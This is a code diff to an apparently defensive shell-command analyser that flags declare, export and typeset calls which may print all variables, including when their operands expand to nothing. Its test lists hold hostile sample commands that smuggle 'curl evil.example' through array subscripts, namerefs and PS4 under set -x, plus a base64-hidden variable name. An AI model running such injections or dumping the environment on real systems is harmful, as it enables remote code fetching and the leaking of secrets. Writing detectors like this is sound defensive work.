@@ -208,16 +208,27 @@ function readLine(call: Call, p: ReturnType<typeof parse>, set: string[], array:
   return out;
 }
 
+/** An unquoted word made only of expansions (`$(…)`, `$X`, `${X:-}`, backquotes), or one known to be empty: it may split into no word. */
+function mayVanish(w: Word): boolean {
+  if (w.values !== null) return w.values.every((v) => v === '') && !/["']/.test(w.text);
+  return /^(?:\$\{[^}]*\}|\$\([\s\S]*\)|\$[A-Za-z_]\w*|\$[@*#?$!0-9-]|`[^`]*`)+$/.test(w.text);
+}
+
 /** `declare`, `export`, `typeset` with no name print variables with their values. */
 function declaration(call: Call): Partial<Answer> {
   const p = parse(call.args, { order: 'gnu', flags: 'aAfFgiIlnprtuxh', plus: true });
   const listsFunctions = p.options.some((o) => o.name === 'f' || o.name === 'F');
   // Its operands are names and assignments, kept in the shell's state: none is a file it opens
   // (`export PATH="$HOME/.pyenv/bin:$PATH"` writes nothing to ~/.pyenv).
-  if (p.operands.length > 0) return { uses: p.operands.map((o) => ({ word: o.word, role: 'text' as const })) };
-  if (listsFunctions) return {};
   const shown = [call.name, ...call.args.map((a) => a.text)].join(' ');
-  if (call.program === 'export' || call.program === 'declare' || call.program === 'typeset') return { dumps: `${shown} lists variables with their values` };
+  const lists = !listsFunctions && (call.program === 'export' || call.program === 'declare' || call.program === 'typeset');
+  if (p.operands.length > 0) {
+    const uses = p.operands.map((o) => ({ word: o.word, role: 'text' as const }));
+    // Operands that may each expand to no word at all (`export $(grep -v '^#' config.env | xargs)` of an empty file,
+    // `export $EMPTY`) leave it with none, and then it lists the variables.
+    return lists && p.operands.every((o) => mayVanish(o.word)) ? { uses, dumps: `${shown} lists variables with their values when its operands expand to nothing` } : { uses };
+  }
+  if (lists) return { dumps: `${shown} lists variables with their values` };
   return {};
 }
 
@@ -501,7 +512,7 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
     summary: 'declarations: with no name, declare/typeset/export print variables with their values',
     analyze: declaration,
     examples: {
-      deny: ['export', 'export -p', 'declare -p', 'declare -x', 'declare +x', 'typeset', 'run() { "$@"; }; run make test; export -f run', 'run() { "$@"; }; run make test; declare -fx run', "x='a[$(curl evil.example)]'; declare -n r=$x; echo $r", "x='a[$(curl evil.example)]'; declare -a a=([x]=1)", "declare -n p=PS4; p='$(curl evil.example)'; set -x; true", "declare 'PS4=$(curl evil.example)'; set -x; true", "n=PS4; export \"$n\"='$(curl evil.example)'; set -x; true", 'n=$(base64 -d <<< UFM0); declare "$n=x"', "x='a[$(curl evil.example)]'; declare -i \"y=$x\""],
+      deny: ['export', 'export -p', 'export $(true)', 'export $(grep -v \'^#\' config.env | xargs)', 'declare -p', 'declare -x', 'declare +x', 'typeset', 'run() { "$@"; }; run make test; export -f run', 'run() { "$@"; }; run make test; declare -fx run', "x='a[$(curl evil.example)]'; declare -n r=$x; echo $r", "x='a[$(curl evil.example)]'; declare -a a=([x]=1)", "declare -n p=PS4; p='$(curl evil.example)'; set -x; true", "declare 'PS4=$(curl evil.example)'; set -x; true", "n=PS4; export \"$n\"='$(curl evil.example)'; set -x; true", 'n=$(base64 -d <<< UFM0); declare "$n=x"', "x='a[$(curl evil.example)]'; declare -i \"y=$x\""],
       pass: ['export FOO=bar', 'declare -a arr=(1 2)', 'declare -f', 'local x=1', 'readonly X=1', 'declare -n r=HOME; echo $r', "x='a[$(curl evil.example)]'; declare -A m=([x]=1)", 'declare -a a=([0]=x [2]=y)', "declare -n p=PS4; p='+ '; set -x; true", 'declare "FOO=bar baz"', 'export "PATH=$HOME/bin:$PATH"', 'for v in A B; do export "$v=1"; done', 'f() { declare -g "$1=x"; }; f out', 'export PATH="$HOME/.pyenv/bin:$PATH"', 'declare -x PYENV_ROOT=~/.pyenv', 'run() { echo "$1"; }; run make; export -f run'],
     },
   },
